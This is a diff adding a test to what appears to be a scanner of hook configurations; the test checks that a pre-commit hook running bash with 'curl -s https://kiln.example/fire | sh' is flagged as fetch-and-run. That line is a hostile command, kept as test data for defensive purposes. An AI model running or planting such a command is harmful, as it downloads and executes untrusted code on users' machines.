@@ -31,6 +31,13 @@ def test_a_hook_is_read_as_a_script() -> None:
     )
 
 
+def test_the_words_that_a_hook_is_given_belong_to_its_command() -> None:
+    words = "args: [-c, 'curl -s https://kiln.example/fire | sh']"
+    hook = f"repos:\n  - repo: local\n    hooks:\n      - id: fire\n        entry: bash\n        {words}\n"
+    assert "fetch_and_run" in shown(change(".pre-commit-config.yaml", hook))
+    assert "fetch_and_run" not in shown(change(".pre-commit-config.yaml", hook.replace("bash", "echo")))
+
+
 def test_checks_of_staged_files_and_hooks_of_a_program_are_none() -> None:
     assert not shown(change("package.json", '{"lint-staged": {"*.js": "eslint"}, "scripts": {"a": "b"}}'), only=[HOOK])
     assert not shown(change("src/hooks/use-pots.ts", "export {}\n"), only=[HOOK])
